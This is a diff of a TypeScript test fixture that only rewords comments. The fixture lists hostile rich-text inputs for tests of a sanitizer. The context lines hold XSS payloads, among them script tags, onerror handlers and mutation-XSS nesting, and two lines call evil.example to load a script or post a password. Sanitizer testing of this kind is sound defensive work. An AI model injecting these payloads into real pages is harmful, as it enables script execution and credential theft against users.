@@ -1,9 +1,9 @@
 /**
- * Hostile rich text: each would call `alert(1)`, load something, or break out of its place if it were shown as it is.
- * Written for sanitizeRichText and for the test that renders them in a real browser.
+ * Hostile rich text: without cleaning, each would call `alert(1)`, load something, or break out of its place. Used by the tests of
+ * sanitizeRichText and by the test that renders them in a real browser.
  */
 const written: string[] = [
-  // scripts, however they are spelled
+  // scripts in various spellings
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
   '<scr<script>ipt>alert(1)</scr</script>ipt>',
@@ -54,7 +54,7 @@ const written: string[] = [
   '<hr onanimationstart=alert(1) style="animation:x 1s">',
   '<br onclick=alert(1)>',
 
-  // pictures, media and embeddings
+  // images, media and embeds
   '<img src=x onerror=alert(1)>',
   '<img src=x:alert(1) onerror=eval(src)>',
   '<img/src=x/onerror=alert(1)>',
@@ -97,7 +97,7 @@ const written: string[] = [
   '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
 
-  // forms, frames of mind and the page itself
+  // forms, frames and the page itself
   '<form action="javascript:alert(1)"><input type=submit value=Sign></form>',
   '<form action="//evil.example/steal"><input name=password type=password></form>',
   '<button formaction="javascript:alert(1)">x</button>',
@@ -199,7 +199,7 @@ const disguises: ((scheme: string) => string)[] = [
   (scheme) => [...scheme].map((letter) => `&#${letter.codePointAt(0)};`).join(''),
 ]
 
-/** Every hostile text: those written one by one, and each forbidden scheme in each disguise. */
+/** All hostile texts: those listed above, and each forbidden scheme in each disguise. */
 export const hostileRichTexts: string[] = [
   ...written,
   ...schemes.flatMap((scheme) =>
